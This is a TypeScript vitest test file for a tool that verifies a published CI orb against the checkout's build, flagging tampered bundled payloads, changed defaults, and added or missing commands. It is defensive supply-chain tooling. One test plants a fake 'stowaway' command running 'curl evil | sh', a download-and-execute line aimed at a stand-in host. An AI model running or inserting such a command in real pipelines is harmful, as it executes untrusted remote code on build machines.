import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify, type ToStringOptions } from 'yaml';
import { buildRelease, orbCommands, type Release } from '../../scripts/build.ts';
import { compareOrbs, verdictLine, type Verdict } from '../../scripts/lib/orb-diff.ts';
import { decodeRunStep, encodePayload, PART_NAME, toBase85 } from '../../scripts/lib/payload.ts';
import { verify } from '../../scripts/verify.ts';
import { makeTempDir, type TempDir } from '../../testbed/tempdir.ts';

const root = resolve(import.meta.dirname, '..', '..');

type Obj = Record<string, unknown>;
type Command = { parameters?: Record<string, { default?: unknown }>; steps: { run?: { command: string } }[] };
type Orb = { commands: Record<string, Command> };

let release: Release;
let dir: TempDir;

beforeAll(async () => {
  release = await buildRelease();
  dir = makeTempDir('regauth-verify-');
}, 60_000);

/** A fresh parsed copy of the build's orb. */
function builtOrb(): Orb {
  return parse(release.orbYaml) as Orb;
}

/** The first command (by name) with a run step that carries a bundle, and that step. */
function firstBundledStep(orb: Orb): { command: string; step: BundledStep } {
  for (const command of Object.keys(orb.commands).sort()) {
    const step = orb.commands[command]?.steps.find((s) => s.run && decodeRunStep(s.run));
    if (step?.run) return { command, step: step.run as BundledStep };
  }
  throw new Error('no command carries a bundle');
}

type BundledStep = { command: string; environment: Record<string, string> };

/** Replaces a step's payload parts with `payload`, split over as many parts as it had. */
function setPayload(step: BundledStep, payload: string): void {
  const names = Object.keys(step.environment).filter((key) => PART_NAME.test(key));
  const size = Math.ceil(payload.length / names.length);
  names.forEach((name, i) => (step.environment[name] = payload.slice(i * size, (i + 1) * size)));
}

function verdictsOf(orb: unknown): Map<string, Verdict> {
  return new Map(compareOrbs(parse(release.orbYaml), orb).map((v) => [v.subject, v]));
}

function differing(verdicts: Map<string, Verdict>): string[] {
  return [...verdicts.values()].filter((v) => v.differences.length > 0).map((v) => v.subject);
}

/** Runs verify in this process against the one build, without writing dist/. */
async function verifyFile(text: string, ...flags: string[]): Promise<{ code: number; lines: string[] }> {
  const file = join(dir.path, `orb-${Math.random().toString(36).slice(2)}.yml`);
  writeFileSync(file, text);
  const lines: string[] = [];
  const code = await verify([file, ...flags], (line) => lines.push(line), { build: () => Promise.resolve(release), write: () => undefined });
  return { code, lines };
}

describe('npm run verify', () => {
  it('judges every command of the build, and nothing else, with one line each', async () => {
    const { code, lines } = await verifyFile(release.orbYaml);
    expect(code).toBe(0);
    const commandLines = lines.filter((line) => line.startsWith('command '));
    expect(commandLines).toEqual(orbCommands().map((command) => `command ${command}: match`));
    expect(lines).toContain('top-level: match');
  });

  it.each([
    ['block style, 4-space indent, double-quoted strings folded at 60 columns', { indent: 4, defaultStringType: 'QUOTE_DOUBLE', defaultKeyType: 'PLAIN', lineWidth: 60 }],
    ['flow collections, single-quoted strings', { collectionStyle: 'flow', defaultStringType: 'QUOTE_SINGLE', lineWidth: 0 }],
    ['keys re-ordered', undefined],
  ] as const)('accepts a re-serialized copy (%s)', async (_, options) => {
    const parsed = builtOrb();
    const text = options === undefined ? stringify(reorder(parsed), { lineWidth: 0 }) : stringify(parsed, options as ToStringOptions);
    expect(text).not.toBe(release.orbYaml);
    const { code, lines } = await verifyFile(text);
    expect(lines.filter((line) => !line.endsWith(': match') && !line.includes('every part matches'))).toEqual([]);
    expect(code).toBe(0);
  });

  it('names the command whose payload changed, by its decoded sha256, and exits 1', async () => {
    const orb = builtOrb();
    const { command, step } = firstBundledStep(orb);
    const before = decodeRunStep(step);
    const tampered = `${before?.code ?? ''};globalThis.x=1;`;
    setPayload(step, encodePayload(tampered));
    const verdicts = verdictsOf(orb);
    expect(differing(verdicts)).toEqual([`command ${command}`]);
    const differences = verdicts.get(`command ${command}`)?.differences ?? [];
    expect(differences).toHaveLength(2);
    expect(differences[0]).toMatch(new RegExp(`payload sha256 mismatch: build ${before?.sha256}, file ${decodeRunStep(step)?.sha256}`));
    // The launcher still names the old sha256: text that no longer describes its payload.
    expect(differences[1]).toMatch(/run\.command: text differs from line \d+ \(build "regauth_sha256=<bundle sha256>", file "regauth_sha256=[0-9a-f]{64}/);
    const { code, lines } = await verifyFile(stringify(orb, { lineWidth: 0 }));
    expect(code).toBe(1);
    expect(lines.filter((line) => line.includes('differs'))[0]).toMatch(new RegExp(`^command ${command}: differs: .*payload sha256 mismatch`));
  });

  it('names the command and the parameter whose default changed, and exits 1', async () => {
    const orb = builtOrb();
    const [command, parameter] = Object.entries(orb.commands)
      .flatMap(([name, c]) => Object.entries(c.parameters ?? {}).filter(([, p]) => typeof p.default === 'string').map(([param]) => [name, param] as const))
      .sort()[0] ?? ['', ''];
    const spec = orb.commands[command]?.parameters?.[parameter] as { default: string };
    const original = spec.default;
    spec.default = `${original}-changed`;
    const verdicts = verdictsOf(orb);
    expect(differing(verdicts)).toEqual([`command ${command}`]);
    expect(verdicts.get(`command ${command}`)?.differences).toEqual([
      `parameters.${parameter}.default: build ${JSON.stringify(original)}, file ${JSON.stringify(`${original}-changed`)}`,
    ]);
    const { code, lines } = await verifyFile(stringify(orb, { lineWidth: 0 }));
    expect(code).toBe(1);
    expect(lines).toContain(`command ${command}: differs: parameters.${parameter}.default: build ${JSON.stringify(original)}, file ${JSON.stringify(`${original}-changed`)}`);
  });

  it('names a changed launcher line, a step key, a description, a missing command and an extra one', () => {
    const orb = builtOrb();
    const commands = Object.keys(orb.commands).sort();
    const [first, second, third] = commands;
    const { command, step } = firstBundledStep(orb);
    step.command = step.command.replace('command -v node', 'command -v nodejs');
    const other = orb.commands[second ?? ''] as Command & { description?: string; steps: { run?: Obj }[] };
    other.description = 'something else';
    const run = other.steps.find((s) => s.run)?.run as Obj;
    run['name'] = 'renamed';
    delete orb.commands[third ?? ''];
    orb.commands['stowaway'] = { steps: [{ run: { command: 'curl evil | sh' } }] };
    const verdicts = verdictsOf(orb);
    expect(command).toBe(first);
    expect(verdicts.get(`command ${first}`)?.differences.join()).toMatch(/run\.command: text differs from line \d+ \(build ".*command -v node /);
    expect(verdicts.get(`command ${second}`)?.differences).toEqual(
      expect.arrayContaining([expect.stringMatching(/^description: text differs from line 1 \(build ".*, file "something else"\)$/), expect.stringMatching(/^steps\[\d+\]\.run\.name: build ".*", file "renamed"$/)]),
    );
    expect(verdicts.get(`command ${third}`)?.differences).toEqual(['missing from the file']);
    expect(verdicts.get('command stowaway')?.differences).toEqual(['not in the build of this checkout']);
  });

  it('says which payload does not decode', () => {
    const orb = builtOrb();
    const { command, step } = firstBundledStep(orb);
    setPayload(step, toBase85(Buffer.from('not brotli!!')));
    expect(verdictsOf(orb).get(`command ${command}`)?.differences[0]).toMatch(/run: the file's payload does not decode: the payload is not base85 brotli data/);
  });

  it('compares executors, examples and top-level keys', () => {
    const orb = builtOrb() as unknown as Obj & { executors: Record<string, Obj>; examples: Record<string, Obj> };
    const executor = Object.keys(orb.executors)[0] ?? '';
    const example = Object.keys(orb.examples)[0] ?? '';
    orb.executors[executor] = { ...orb.executors[executor], resource_class: 'xlarge' };
    orb.examples[example] = { ...orb.examples[example], description: 'changed' };
    orb['display'] = { source_url: 'https://example.invalid/fork' };
    const verdicts = verdictsOf(orb);
    expect(differing(verdicts).sort()).toEqual([`example ${example}`, `executor ${executor}`, 'top-level'].sort());
    expect(verdicts.get(`executor ${executor}`)?.differences).toEqual(['resource_class: only in the file ("xlarge")']);
    expect(verdicts.get('top-level')?.differences.join()).toMatch(/^display/);
  });

  it('--readable prints where each command\'s readable bundle is', async () => {
    const { lines } = await verifyFile(release.orbYaml, '--readable');
    for (const command of orbCommands()) expect(lines).toContain(`command ${command}: match (readable: dist/readable/${command}.js)`);
    expect(verdictLine({ subject: 'executor default', differences: [] })).toBe('executor default: match');
  });

  it('refuses a missing file with exit 2', async () => {
    const lines: string[] = [];
    expect(await verify([join(dir.path, 'absent.yml')], (l) => lines.push(l), { build: () => Promise.resolve(release), write: () => undefined })).toBe(2);
    expect(lines[0]).toMatch(/^verify: cannot read .*absent\.yml/);
    expect(await verify([], (l) => lines.push(l))).toBe(2);
  });

  it('runs as `npm run verify -- FILE`: rebuilds, then exits 1 naming the tampered command', async () => {
    const orb = builtOrb();
    const { command, step } = firstBundledStep(orb);
    setPayload(step, encodePayload('process.exit(0)'));
    const file = join(dir.path, 'tampered.yml');
    writeFileSync(file, stringify(orb, { indent: 4 }));
    const result = await promisify(execFile)('npm', ['run', '--silent', 'verify', '--', file], { cwd: root, encoding: 'utf8' }).then(
      (r) => ({ code: 0, stdout: r.stdout }),
      (error: { code?: number; stdout?: string }) => ({ code: error.code, stdout: error.stdout ?? '' }),
    );
    expect(result.code).toBe(1);
    const lines = result.stdout.trim().split('\n');
    expect(lines.filter((line) => line.includes(': differs: '))).toEqual([expect.stringMatching(new RegExp(`^command ${command}: differs: .*payload sha256 mismatch`))]);
    expect(lines.filter((line) => line.startsWith('command ')).length).toBe(orbCommands().length);
  }, 60_000);
});

/** The same mapping with every map's keys in reverse order. */
function reorder(value: unknown): unknown {
  if (Array.isArray(value)) return value.map(reorder);
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).reverse().map(([k, v]) => [k, reorder(v)]));
  return value;
}
